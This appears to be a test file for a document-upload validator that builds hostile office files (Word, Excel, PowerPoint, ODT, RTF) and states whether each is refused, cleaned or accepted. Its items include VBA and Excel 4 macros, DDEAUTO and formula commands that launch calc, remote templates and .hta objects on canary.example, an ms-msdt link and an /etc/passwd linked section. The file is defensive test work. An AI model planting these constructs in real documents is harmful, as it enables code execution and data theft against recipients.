@@ -1,0 +1,585 @@
+"""T-55 and T-56: office files that act, carry others, or fetch. T-52: with a photo inside."""
+
+import struct
+from functools import partial
+
+from tests.hostile.corpus import jpegs, metadata, offices, pngs
+from tests.hostile.corpus.hostile import CANARY, SCRIPT, fixed, item
+from tests.hostile.corpus.offices import (
+    HEAD,
+    MAIN,
+    docx,
+    docx_parts,
+    odt,
+    override,
+    packed,
+    paragraph,
+    pptx,
+    relation,
+    xlsx,
+    xlsx_parts,
+)
+
+MACRO = b"application/vnd.ms-office.vbaProject"
+VBA_REL = b"http://schemas.microsoft.com/office/2006/relationships/vbaProject"
+MS = b"application/vnd.ms-"
+# What Office 97 saved, and what a macro is kept in.
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+EXE = b"MZ\x90\0" + bytes(56) + b"\x40\0\0\0PE\0\0\x4c\x01" + bytes(200)
+
+
+def compound(*streams: str) -> bytes:
+    """A compound file whose directory names these streams."""
+    head = OLE + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
+    head += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
+    head += struct.pack("<I", 0) + b"\xff" * 432
+    table = struct.pack("<II", 0xFFFFFFFD, 0xFFFFFFFE).ljust(512, b"\xff")
+    names = ("Root Entry", *streams)
+    entries = b"".join(
+        name.encode("utf-16-le").ljust(64, b"\0")
+        + struct.pack("<HBB", 2 * len(name) + 2, 5 if name == "Root Entry" else 2, 1)
+        + b"\xff" * 12
+        + bytes(48)
+        for name in names
+    )
+    return head + table + entries.ljust(512, b"\0") + bytes(4096)
+
+
+VBA = compound("VBA", "dir", "_VBA_PROJECT", "ThisDocument")
+
+
+def with_macro(kind: bytes = MAIN + b"wordprocessingml.document.main+xml") -> bytes:
+    return docx(
+        kind=kind,
+        types=(override("word/vbaProject.bin", MACRO),),
+        links=(relation(9, VBA_REL, b"vbaProject.bin"),),
+        **{"word__vbaProject.bin": VBA},
+    )
+
+
+def workbook_with_macro(kind: bytes) -> bytes:
+    return xlsx(
+        kind=kind,
+        types=(override("xl/vbaProject.bin", MACRO),),
+        links=(relation(9, VBA_REL, b"vbaProject.bin"),),
+        **{"xl__vbaProject.bin": VBA},
+    )
+
+
+def slides_with_macro(kind: bytes) -> bytes:
+    return pptx(
+        kind=kind,
+        types=(override("ppt/vbaProject.bin", MACRO),),
+        links=(relation(9, VBA_REL, b"vbaProject.bin"),),
+        **{"ppt__vbaProject.bin": VBA},
+    )
+
+
+def macro_under_another_name() -> bytes:
+    """Only the content type and the relationship say what it is."""
+    return docx(
+        types=(override("word/theme/theme9.xml", MACRO),),
+        links=(relation(9, VBA_REL, b"theme/theme9.xml"),),
+        word__theme__theme9_xml=VBA,
+    ).replace(b"theme9_xml", b"theme9.xml")
+
+
+def macro_as_picture() -> bytes:
+    """Nothing says what it is, but its bytes."""
+    return docx(
+        links=(relation(9, b"image", b"media/image1.png"),), **{"word__media__image1.png": VBA}
+    )
+
+
+def carrying(path: str, content: bytes, kind: bytes, target: bytes) -> bytes:
+    return docx(
+        links=(relation(9, kind, target),),
+        **{f"word__{path}": content},
+        types=(b'<Default Extension="bin" ContentType="application/octet-stream"/>',),
+    )
+
+
+def linked(kind: bytes, target: bytes) -> bytes:
+    return docx(links=(relation(9, kind, target, away=True),))
+
+
+def field(code: bytes) -> bytes:
+    return docx(
+        body=b'<w:p><w:fldSimple w:instr=" '
+        + code
+        + b' "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
+    )
+
+
+def template_elsewhere() -> bytes:
+    settings = (
+        b'<w:settings xmlns:w="%s" xmlns:r="%s"><w:attachedTemplate r:id="rId1"/></w:settings>'
+    )
+    parts = docx_parts(
+        types=(override("word/settings.xml", MAIN + b"wordprocessingml.settings+xml"),),
+        links=(relation(9, b"settings", b"settings.xml"),),
+    )
+    parts["word/settings.xml"] = HEAD + settings % (offices.WORD, offices.OFFICE)
+    parts["word/_rels/settings.xml.rels"] = offices.relations(
+        relation(1, b"attachedTemplate", b"http://canary.example/evil.dotm", away=True)
+    )
+    return packed(parts)
+
+
+def formula(text: bytes) -> bytes:
+    return xlsx(cell=b'<c r="A1"><f>' + text + b"</f><v>1</v></c>")
+
+
+def book_linked_elsewhere(kind: bytes) -> bytes:
+    parts = xlsx_parts(links=(relation(9, b"externalLink", b"externalLinks/externalLink1.xml"),))
+    parts["xl/externalLinks/externalLink1.xml"] = (
+        HEAD + b'<externalLink xmlns="%s">' % offices.SHEET + kind + b"</externalLink>"
+    )
+    return packed(parts)
+
+
+def macro_sheet() -> bytes:
+    """Excel 4's macros are cells, without any VBA."""
+    kind = b"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
+    parts = xlsx_parts(
+        types=(override("xl/macrosheets/sheet1.xml", MS + b"excel.macrosheet+xml"),),
+        links=(relation(9, kind, b"macrosheets/sheet1.xml"),),
+    )
+    parts["xl/macrosheets/sheet1.xml"] = (
+        HEAD
+        + b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="%s">'
+        % offices.SHEET
+        + b'<sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f></c></row></sheetData></xm:macrosheet>'
+    )
+    return packed(parts)
+
+
+def ribbon() -> bytes:
+    parts = docx_parts()
+    parts["_rels/.rels"] = offices.relations(
+        relation(1, b"officeDocument", b"word/document.xml"),
+        relation(
+            2,
+            b"http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
+            b"customUI/customUI.xml",
+        ),
+    )
+    parts["customUI/customUI.xml"] = (
+        b'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Canary"/>'
+    )
+    return packed(parts)
+
+
+def web_query() -> bytes:
+    parts = xlsx_parts(links=(relation(9, b"connections", b"connections.xml"),))
+    parts["xl/connections.xml"] = (
+        HEAD
+        + b'<connections xmlns="%s"><connection id="1" name="a" type="4" refreshOnLoad="1">'
+        % offices.SHEET
+        + b'<webPr url="http://canary.example/"/></connection></connections>'
+    )
+    return packed(parts)
+
+
+def with_photo(form: str) -> bytes:
+    photo = metadata.everything()
+    if form == "docx":
+        return docx(
+            links=(relation(9, b"image", b"media/image1.jpeg"),),
+            **{"word__media__image1.jpeg": photo},
+        )
+    if form == "xlsx":
+        return packed(xlsx_parts() | {"xl/media/image1.jpeg": photo})
+    if form == "pptx":
+        return pptx(
+            links=(relation(9, b"image", b"media/image1.jpeg"),),
+            **{"ppt__media__image1.jpeg": photo},
+        )
+    return odt(
+        body=b'<text:p><draw:frame><draw:image xlink:href="Pictures/1.jpg"/></draw:frame></text:p>',
+        entries=b'<manifest:file-entry manifest:full-path="Pictures/1.jpg" manifest:media-type="image/jpeg"/>',
+        **{"Pictures__1.jpg": photo},
+    )
+
+
+def with_thumbnail() -> bytes:
+    """Of the first page, made by a camera."""
+    parts = docx_parts()
+    parts["docProps/thumbnail.jpeg"] = metadata.everything()
+    return packed(parts)
+
+
+def photo_named_otherwise() -> bytes:
+    return docx(
+        links=(relation(9, b"image", b"media/image1.png"),),
+        **{"word__media__image1.png": metadata.everything()},
+    )
+
+
+def huge_picture_inside() -> bytes:
+    return docx(
+        links=(relation(9, b"image", b"media/image1.png"),),
+        **{"word__media__image1.png": pngs.black(20_000, 20_000)},
+    )
+
+
+def drawing_inside() -> bytes:
+    return docx(
+        links=(relation(9, b"image", b"media/image1.svg"),),
+        types=(b'<Default Extension="svg" ContentType="image/svg+xml"/>',),
+        **{
+            "word__media__image1.svg": b'<svg xmlns="http://www.w3.org/2000/svg">'
+            + SCRIPT
+            + b"</svg>"
+        },
+    )
+
+
+def odt_with_script(path: str) -> bytes:
+    return odt(
+        entries=b'<manifest:file-entry manifest:full-path="%s" manifest:media-type="text/xml"/>'
+        % path.encode(),
+        **{path.replace("/", "__"): b'<script>Sub Main\nShell("calc")\nEnd Sub</script>'},
+    )
+
+
+def odt_listening() -> bytes:
+    """Runs a program when the document is opened, without a macro of its own."""
+    listener = (
+        b'<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
+        b'script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.py$os?language=Python"/>'
+        b"</office:event-listeners></office:scripts>"
+    )
+    whole = offices.odt_parts()
+    whole["content.xml"] = whole["content.xml"].replace(
+        b"<office:body>", listener + b"<office:body>"
+    )
+    return packed(whole)
+
+
+def odt_locked() -> bytes:
+    parts = offices.odt_parts()
+    parts["content.xml"] = bytes(range(256)) * 4
+    parts["META-INF/manifest.xml"] = parts["META-INF/manifest.xml"].replace(
+        b'manifest:full-path="content.xml" manifest:media-type="text/xml"/>',
+        b'manifest:full-path="content.xml" manifest:media-type="text/xml" manifest:size="900">'
+        b'<manifest:encryption-data manifest:checksum="AAAA"><manifest:algorithm '
+        b'manifest:algorithm-name="Blowfish CFB"/></manifest:encryption-data></manifest:file-entry>',
+    )
+    return packed(parts)
+
+
+def without(path: str, parts: offices.Parts) -> bytes:
+    return packed({name: content for name, content in parts.items() if name != path})
+
+
+refused = partial(item, expect="refused when checked")
+at_once = partial(item, expect="refused")
+kept = partial(item, expect="accepted as is")
+cleaned = partial(item, expect="cleaned", never=(CANARY,))
+WORD_MACROS = MS + b"word.document.macroEnabled.main+xml"
+BOOK_MACROS = MS + b"excel.sheet.macroEnabled.main+xml"
+SLIDE_MACROS = MS + b"powerpoint.presentation.macroEnabled.main+xml"
+
+ITEMS = (
+    at_once("T-56-docm", "minutes.docm", partial(with_macro, WORD_MACROS)),
+    at_once("T-56-docm-named-docx", "minutes.docx", partial(with_macro, WORD_MACROS)),
+    at_once("T-56-docx-with-macro", "minutes.docx", with_macro),
+    refused("T-56-docm-without-its-macro", "minutes.docx", partial(docx, kind=WORD_MACROS)),
+    refused(
+        "T-56-dotx-template",
+        "minutes.docx",
+        partial(docx, kind=MAIN + b"wordprocessingml.template.main+xml"),
+    ),
+    at_once("T-56-xlsm", "sums.xlsm", partial(workbook_with_macro, BOOK_MACROS)),
+    at_once("T-56-xlsm-named-xlsx", "sums.xlsx", partial(workbook_with_macro, BOOK_MACROS)),
+    at_once(
+        "T-56-xlam-named-xlsx",
+        "sums.xlsx",
+        partial(workbook_with_macro, MS + b"excel.addin.macroEnabled.main+xml"),
+    ),
+    refused(
+        "T-56-xlsb-named-xlsx",
+        "sums.xlsx",
+        partial(xlsx, kind=MS + b"excel.sheet.binary.macroEnabled.main"),
+    ),
+    at_once("T-56-pptm", "talk.pptm", partial(slides_with_macro, SLIDE_MACROS)),
+    at_once("T-56-pptm-named-pptx", "talk.pptx", partial(slides_with_macro, SLIDE_MACROS)),
+    at_once(
+        "T-56-ppsm-named-pptx",
+        "talk.pptx",
+        partial(slides_with_macro, MS + b"powerpoint.slideshow.macroEnabled.main+xml"),
+    ),
+    refused("T-56-macro-under-another-name", "minutes.docx", macro_under_another_name),
+    refused("T-56-macro-as-picture", "minutes.docx", macro_as_picture),
+    at_once(
+        "T-56-macro-that-nothing-names",
+        "minutes.docx",
+        lambda: packed(docx_parts() | {"word/vbaProject.bin": VBA}),
+    ),
+    at_once(
+        "T-56-macro-in-capitals",
+        "minutes.docx",
+        lambda: packed(docx_parts() | {"WORD/VBAPROJECT.BIN": VBA}),
+    ),
+    at_once("T-56-excel-4-macro-sheet", "sums.xlsx", macro_sheet),
+    refused("T-56-ribbon-that-calls", "minutes.docx", ribbon),
+    at_once(
+        "T-55-activex",
+        "minutes.docx",
+        lambda: packed(
+            docx_parts(links=(relation(9, b"control", b"activeX/activeX1.xml"),))
+            | {
+                "word/activeX/activeX1.xml": b"<ax:ocx/>",
+                "word/activeX/activeX1.bin": OLE + bytes(512),
+            }
+        ),
+    ),
+    at_once(
+        "T-55-ole-object",
+        "minutes.docx",
+        partial(
+            carrying,
+            "embeddings__oleObject1.bin",
+            compound("\x01Ole10Native"),
+            b"oleObject",
+            b"embeddings/oleObject1.bin",
+        ),
+    ),
+    at_once(
+        "T-55-program-as-package",
+        "minutes.docx",
+        partial(carrying, "embeddings__package1.bin", EXE, b"package", b"embeddings/package1.bin"),
+    ),
+    refused(
+        "T-55-workbook-with-macro-as-package",
+        "minutes.docx",
+        lambda: carrying(
+            "embeddings__book1.xlsx",
+            workbook_with_macro(BOOK_MACROS),
+            b"package",
+            b"embeddings/book1.xlsx",
+        ),
+    ),
+    refused(
+        "T-55-program-as-custom-part",
+        "minutes.docx",
+        lambda: packed(docx_parts() | {"customXml/item1.xml": EXE}),
+    ),
+    at_once(
+        "T-55-page-as-chunk",
+        "minutes.docx",
+        partial(carrying, "chunk.html", b"<html>" + SCRIPT, b"aFChunk", b"chunk.html"),
+    ),
+    refused("T-55-template-elsewhere", "minutes.docx", template_elsewhere),
+    refused(
+        "T-55-picture-elsewhere",
+        "minutes.docx",
+        partial(linked, b"image", b"http://canary.example/a.png"),
+    ),
+    refused(
+        "T-55-picture-on-a-share",
+        "minutes.docx",
+        partial(linked, b"image", b"file://canary.example/a.png"),
+    ),
+    refused(
+        "T-55-object-elsewhere",
+        "minutes.docx",
+        partial(linked, b"oleObject", b"http://canary.example/a.hta"),
+    ),
+    refused(
+        "T-55-part-elsewhere",
+        "minutes.docx",
+        partial(linked, b"subDocument", b"http://canary.example/a.docx"),
+    ),
+    refused(
+        "T-55-frame-elsewhere", "minutes.docx", partial(linked, b"frame", b"http://canary.example/")
+    ),
+    refused(
+        "T-55-link-of-a-script",
+        "minutes.docx",
+        partial(linked, b"hyperlink", b"javascript:alert(1)"),
+    ),
+    refused(
+        "T-55-link-of-a-handler",
+        "minutes.docx",
+        partial(linked, b"hyperlink", b"ms-msdt:/id%20PCWDiagnostic"),
+    ),
+    kept(
+        "T-55-link-of-a-page",
+        "minutes.docx",
+        partial(linked, b"hyperlink", b"https://www.birmingham.gov.uk/"),
+    ),
+    kept(
+        "T-55-link-of-a-letter",
+        "minutes.docx",
+        partial(linked, b"hyperlink", b"mailto:send@example.org"),
+    ),
+    refused(
+        "T-55-field-that-starts-a-program",
+        "minutes.docx",
+        partial(field, b"DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot;"),
+    ),
+    refused(
+        "T-55-field-that-fetches-a-picture",
+        "minutes.docx",
+        partial(field, b"INCLUDEPICTURE &quot;http://canary.example/a.png&quot; \\d"),
+    ),
+    refused(
+        "T-55-field-that-fetches-text",
+        "minutes.docx",
+        partial(field, b"INCLUDETEXT &quot;\\\\\\\\canary.example\\\\a&quot;"),
+    ),
+    kept("T-55-field-of-the-page-number", "minutes.docx", partial(field, b"PAGE")),
+    refused(
+        "T-55-formula-that-starts-a-program", "sums.xlsx", partial(formula, b"cmd|'/c calc'!A1")
+    ),
+    refused(
+        "T-55-formula-of-a-web-service",
+        "sums.xlsx",
+        partial(formula, b"WEBSERVICE(&quot;http://canary.example/&quot;&amp;A2)"),
+    ),
+    kept("T-55-formula-that-adds", "sums.xlsx", partial(formula, b"SUM(B1:B9)")),
+    at_once(
+        "T-55-workbook-linked-to-a-program",
+        "sums.xlsx",
+        partial(book_linked_elsewhere, b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
+    ),
+    at_once(
+        "T-55-workbook-linked-to-another",
+        "sums.xlsx",
+        partial(
+            book_linked_elsewhere, b'<externalBook r:id="rId1" xmlns:r="%s"/>' % offices.OFFICE
+        ),
+    ),
+    at_once("T-55-workbook-that-asks-the-web", "sums.xlsx", web_query),
+    refused("T-55-drawing-with-script", "minutes.docx", drawing_inside),
+    refused("T-51-docx-with-picture-of-400-megapixels", "minutes.docx", huge_picture_inside),
+    cleaned("T-52-photo-in-docx", "visit.docx", partial(with_photo, "docx")),
+    cleaned("T-52-photo-in-docx-named-png", "visit.docx", photo_named_otherwise),
+    cleaned("T-52-photo-as-thumbnail-of-docx", "visit.docx", with_thumbnail),
+    cleaned("T-52-photo-in-xlsx", "visit.xlsx", partial(with_photo, "xlsx")),
+    cleaned("T-52-photo-in-pptx", "visit.pptx", partial(with_photo, "pptx")),
+    cleaned("T-52-photo-in-odt", "visit.odt", partial(with_photo, "odt")),
+    at_once(
+        "T-56-odt-with-basic", "minutes.odt", partial(odt_with_script, "Basic/Standard/Module1.xml")
+    ),
+    at_once("T-56-odt-with-python", "minutes.odt", partial(odt_with_script, "Scripts/python/a.py")),
+    refused("T-56-odt-that-listens", "minutes.odt", odt_listening),
+    refused(
+        "T-55-odt-with-object",
+        "minutes.odt",
+        partial(
+            odt,
+            body=b'<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame></text:p>',
+            **{"Object 1": compound("\x01Ole10Native")},
+        ),
+    ),
+    refused(
+        "T-55-odt-with-picture-elsewhere",
+        "minutes.odt",
+        partial(
+            odt,
+            body=b'<text:p><draw:frame><draw:image xlink:href="http://canary.example/a.png"/></draw:frame></text:p>',
+        ),
+    ),
+    refused(
+        "T-55-odt-linked-section",
+        "minutes.odt",
+        partial(
+            odt,
+            body=b'<text:section text:name="a"><text:section-source xlink:href="file:///etc/passwd"/></text:section>',
+        ),
+    ),
+    refused("T-49-odt-locked", "minutes.odt", odt_locked, says="password"),
+    at_once(
+        "T-56-ods-named-odt",
+        "sums.odt",
+        partial(odt, mimetype="application/vnd.oasis.opendocument.spreadsheet"),
+    ),
+    at_once(
+        "T-56-odt-template",
+        "minutes.odt",
+        partial(odt, mimetype="application/vnd.oasis.opendocument.text-template"),
+    ),
+    at_once(
+        "T-56-odt-of-one-xml",
+        "minutes.odt",
+        fixed(
+            b'<?xml version="1.0"?><office:document office:mimetype="application/vnd.oasis.opendocument.text"/>'
+        ),
+    ),
+    at_once(
+        "T-56-rtf",
+        "minutes.rtf",
+        fixed(b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000}}}"),
+    ),
+    at_once(
+        "T-56-rtf-named-docx", "minutes.docx", fixed(b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd}}}")
+    ),
+    at_once("T-56-doc", "minutes.doc", partial(compound, "WordDocument", "Macros")),
+    at_once("T-56-doc-named-docx", "minutes.docx", partial(compound, "WordDocument", "1Table")),
+    at_once("T-56-xls-named-xlsx", "sums.xlsx", partial(compound, "Workbook", "_VBA_PROJECT_CUR")),
+    at_once("T-56-mail-named-docx", "mail.docx", partial(compound, "__properties_version1.0")),
+    at_once(
+        "T-49-docx-locked",
+        "minutes.docx",
+        partial(compound, "EncryptionInfo", "EncryptedPackage"),
+        says="password",
+    ),
+    at_once(
+        "T-49-xlsx-locked",
+        "sums.xlsx",
+        partial(compound, "EncryptionInfo", "EncryptedPackage", "\x06DataSpaces"),
+        says="password",
+    ),
+    at_once(
+        "T-56-page-named-docx",
+        "minutes.docx",
+        fixed(b"<html xmlns:o='urn:schemas-microsoft-com:office:office'>" + SCRIPT),
+    ),
+    at_once(
+        "T-56-mhtml-named-docx",
+        "minutes.docx",
+        fixed(b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + SCRIPT),
+    ),
+    at_once(
+        "T-59-docx-without-content-types",
+        "minutes.docx",
+        lambda: without("[Content_Types].xml", docx_parts()),
+    ),
+    refused(
+        "T-59-docx-without-document",
+        "minutes.docx",
+        lambda: without("word/document.xml", docx_parts()),
+    ),
+    refused(
+        "T-59-xlsx-without-workbook", "sums.xlsx", lambda: without("xl/workbook.xml", xlsx_parts())
+    ),
+    refused(
+        "T-59-odt-without-content",
+        "minutes.odt",
+        lambda: without("content.xml", offices.odt_parts()),
+    ),
+    refused(
+        "T-59-docx-not-xml-inside",
+        "minutes.docx",
+        lambda: packed(docx_parts() | {"word/document.xml": jpegs.jpeg()}),
+    ),
+    refused(
+        "T-59-docx-torn-xml",
+        "minutes.docx",
+        lambda: packed(
+            docx_parts() | {"word/document.xml": docx_parts()["word/document.xml"][:-20]}
+        ),
+    ),
+    *(
+        at_once(
+            f"T-59-{form}-cut-in-the-middle", f"a.{form}", partial(lambda make: make()[:400], make)
+        )
+        for form, make in (("docx", docx), ("xlsx", xlsx), ("pptx", pptx), ("odt", odt))
+    ),
+    at_once("T-59-docx-cut-before-its-end", "a.docx", lambda: docx()[:-20]),
+    kept("T-59-docx-named-pdf", "minutes.pdf", partial(docx, body=paragraph(b"Named otherwise"))),
+    kept("T-59-xlsx-named-docx", "minutes.docx", xlsx),
+)
